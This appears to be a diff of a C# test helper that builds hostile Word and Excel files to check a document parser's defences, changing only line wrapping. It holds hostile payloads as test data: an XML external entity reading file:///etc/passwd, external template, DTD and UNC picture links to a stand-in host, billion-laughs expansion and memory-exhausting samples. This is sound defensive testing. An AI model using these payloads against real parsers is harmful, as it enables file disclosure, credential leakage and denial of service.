@@ -50,10 +50,12 @@ internal static class Hostile
         "external template" => External("attachedTemplate", "http://203.0.113.9/t.dotm"),
         "external picture" => External("image", "\\\\203.0.113.9\\share\\a.png"),
         "external workbook" => With(Excel, "xl/_rels/workbook.xml.rels", Encoding.UTF8.GetString(Excel.Parts["xl/_rels/workbook.xml.rels"])
-            .Replace("</Relationships>", Relation("externalLinkPath", "file:///C:/budget.xlsx") + "</Relationships>", StringComparison.Ordinal)),
+            .Replace("</Relationships>", Relation("externalLinkPath", "file:///C:/budget.xlsx")
+                + "</Relationships>", StringComparison.Ordinal)),
         "dtd" => With(Word, Main, "<!DOCTYPE d SYSTEM \"http://203.0.113.9/x.dtd\">" + Text),
         "billion laughs" => With(Word, Main, Laughs() + Text),
-        "dtd in relations" => With(Word, "_rels/.rels", "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><Relationships>&e;</Relationships>"),
+        "dtd in relations" => With(Word, "_rels/.rels",
+            "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><Relationships>&e;</Relationships>"),
         "deep" => With(Word, Main, Text.Replace("<w:p/>", Nested("w:sdtContent", 100_000), StringComparison.Ordinal)),
         "nested tables" => With(Word, Main, Text.Replace("<w:p/>", Nested("w:tbl", 300), StringComparison.Ordinal)),
         "broken xml" => With(Word, Main, Text.Replace("</w:body>", "", StringComparison.Ordinal)),
@@ -64,8 +66,10 @@ internal static class Hostile
             StringComparison.Ordinal)),
         "many pieces" => With(Word, Main, Text.Replace("118.96", string.Concat(Enumerable.Range(0, 60_000).Select(_ => "12<!---->")),
             StringComparison.Ordinal), stored: true),
-        "no table" => With(Word, Main, "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>"),
-        "no main part" => With(Word, "_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>"),
+        "no table" => With(Word, Main,
+            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>"),
+        "no main part" => With(Word, "_rels/.rels",
+            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>"),
         // Within every limit by itself: nine pictures of ten megabytes, and elements with attributes up to their number.
         "memory" => Zip(Heavy(), [.. Enumerable.Range(0, 9).Select(n => ($"word/media/{n}.bmp", Noise(10 * 1024 * 1024)))]),
         "row beyond" => With(Excel, "xl/worksheets/sheet1.xml", Encoding.UTF8.GetString(Excel.Parts["xl/worksheets/sheet1.xml"])
@@ -73,7 +77,8 @@ internal static class Hostile
         _ => throw new ArgumentOutOfRangeException(nameof(name), name, null),
     };
 
-    private static byte[] With(FuzzSample sample, string part, string xml, bool stored = false) => With(sample, part, Encoding.UTF8.GetBytes(xml), stored);
+    private static byte[] With(FuzzSample sample, string part, string xml, bool stored = false) =>
+        With(sample, part, Encoding.UTF8.GetBytes(xml), stored);
 
     // Stored, so that the ratio does not speak first.
     private static byte[] With(FuzzSample sample, string part, byte[] bytes, bool stored = false)
@@ -128,7 +133,8 @@ internal static class Hostile
             .Replace("</Relationships>", Relation(type, target) + "</Relationships>", StringComparison.Ordinal));
 
     private static string Relation(string type, string target) =>
-        $"<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\" TargetMode=\"External\"/>";
+        $"<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" "
+            + $"Target=\"{target}\" TargetMode=\"External\"/>";
 
     private static string Nested(string element, int levels) => string.Concat(Enumerable.Repeat($"<{element}>", levels))
         + string.Concat(Enumerable.Repeat($"</{element}>", levels));
